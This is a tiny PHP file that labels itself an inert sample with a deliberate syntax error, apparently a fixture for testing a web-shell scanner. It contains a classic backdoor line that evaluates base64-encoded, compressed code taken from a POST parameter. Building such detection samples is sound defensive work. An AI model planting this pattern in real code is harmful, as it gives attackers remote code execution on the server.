<?php
shodo inert sample: deliberate syntax error, this file never runs
 eval(gzuncompress(base64_decode($_POST['g']))); ?>
